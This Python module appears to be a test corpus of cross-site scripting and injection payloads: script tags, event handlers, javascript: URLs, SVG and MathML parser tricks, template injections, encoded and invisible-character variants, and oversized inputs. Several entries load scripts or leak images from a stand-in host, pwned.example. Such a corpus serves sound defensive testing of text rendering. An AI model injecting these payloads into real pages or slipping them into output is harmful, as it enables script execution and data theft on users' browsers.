"""Texts that try to become markup or code, for every place that shows text."""

# Each tries to set this.
_DO = "window.pwned=1"
_SAY = "alert(1)"

PAYLOADS: tuple[str, ...] = (
    # tags
    f"<script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"<SCRIPT SRC=//pwned.example/x.js></SCRIPT><ScRiPt>{_SAY}</sCrIpT>",
    f"<img src=x onerror={_DO}>",
    f"<img/src=`x`onerror={_DO}>",
    f"<body onload={_DO}>",
    f"<iframe src='javascript:parent.{_DO}'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{_DO}&lt;/script&gt;'></iframe>",
    "<object data='//pwned.example/o'></object><embed src='//pwned.example/e'>",
    f"<video><source onerror='{_DO}'></video><audio src=x onerror={_DO}>",
    f"<details open ontoggle={_DO}>",
    f"<input autofocus onfocus={_DO}><select autofocus onfocus={_DO}>",
    f"<marquee onstart={_DO}>x</marquee>",
    f"<a href='javascript:{_DO}'>click</a>",
    "<form action='//pwned.example'><button formaction='javascript:alert(1)'>go</button></form>",
    "<base href='//pwned.example/'>",
    "<meta http-equiv=refresh content='0;url=//pwned.example'>",
    "<link rel=stylesheet href='//pwned.example/x.css'>",
    f"<style>@import '//pwned.example/x.css';*{{background:url('javascript:{_DO}')}}</style>",
    f"<template shadowrootmode=open><img src=x onerror={_DO}></template>",
    f"<tool-call onclick={_DO} state=pending></tool-call><slot name=x></slot>",
    "<dialog open>Approve?</dialog><button>Approve</button>",
    "<plaintext>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{_DO}</script></x>",
    # SVG and MathML
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_DO}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x'></use></svg>",
    f"<svg><foreignObject><img src=x onerror={_DO}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}></style></mglyph></table>",
    f"<math href='javascript:{_DO}'>x</math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_DO}></annotation-xml></math>",
    # markup that parsers change
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'></noscript>",
    f"<svg></p><style><a id='</style><img src=x onerror={_DO}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_DO}>",
    f"<table><td><img src=x onerror={_DO}></table>",
    f"<textarea></textarea><img src=x onerror={_DO}>",
    f"<title></title><img src=x onerror={_DO}>",
    f"<xmp></xmp><img src=x onerror={_DO}>",
    # attributes
    f'" onmouseover="{_DO}" x="',
    f"' onfocus='{_DO}' autofocus '",
    f"x style=animation-name:x onanimationstart={_DO}",
    '" style="position:fixed;inset:0;background:url(//pwned.example/b)" x="',
    "` onclick=alert(1) `",
    # URLs
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}//",
    f"java\tscript:{_DO}",
    f"\x01javascript:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    "vbscript:msgbox(1)",
    "//pwned.example/%2f..",
    f"#/r/../../x?{_DO}",
    "[click](javascript:alert(1)) ![x](//pwned.example/leak.png)",
    # templates and strings
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    f"${{{_DO}}}",
    f"<%= {_DO} %>",
    f"#{{{_DO}}}",
    f"`+{_DO}+`",
    f"';{_DO};//",
    f'\\";{_DO};//',
    f"*/{_DO}/*",
    "];alert(1);[",
    ")};alert(1);({",
    # styles
    "expression(alert(1))",
    "}*{background:url(//pwned.example/c)}",
    "url('javascript:alert(1)')",
    # names of properties
    *("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "innerHTML"),
    *("onclick", "style", "class", "shadowRoot", "getElementById"),
    *("attributes", "adoptedStyleSheets", "conversation", "then"),
    # encoded
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    # characters
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\x00script>alert(1)</\x00script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202egpj.exe\u202c \u2066hidden\u2069 \u061cx",
    "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;cHduZWQ=\x07 \x9b31m",
    "\x08\x08\x08overwritten\rover",
    "one\u2028two\u2029three\x85four",
    "\ufeffmark \u00adsoft \u180e\u3164\u115f filler",
    "tags \U000e0061\U000e0062 and selectors a\ufe0f\U000e0100",
    "\U000f0000 private \ue000 \u2800 blank\u00a0no-break",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f" * 5,
    "\u27e6ESC\u27e7 is what it looks like, \u27e6U+202E\u27e7 too",
    "\ufdfd" * 8 + "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0130\u0131\u017f\u212a cases that change length: \u00df\ufb03",
    # large
    f"<img src=x onerror={_DO}>" * 300,
    "A" * 5_000,
    "<" * 2_000,
    "\u202e\x1b" * 500,
    "[" * 400 + "{" * 400,
)


def harmless(payload: str, number: int) -> str:
    """Return plain text of the same shape: as long, with the same lines and tabs, and unique."""
    name = f"w{number}"
    return name + "".join(one if one in "\n\t" else "x" for one in payload[len(name) :])
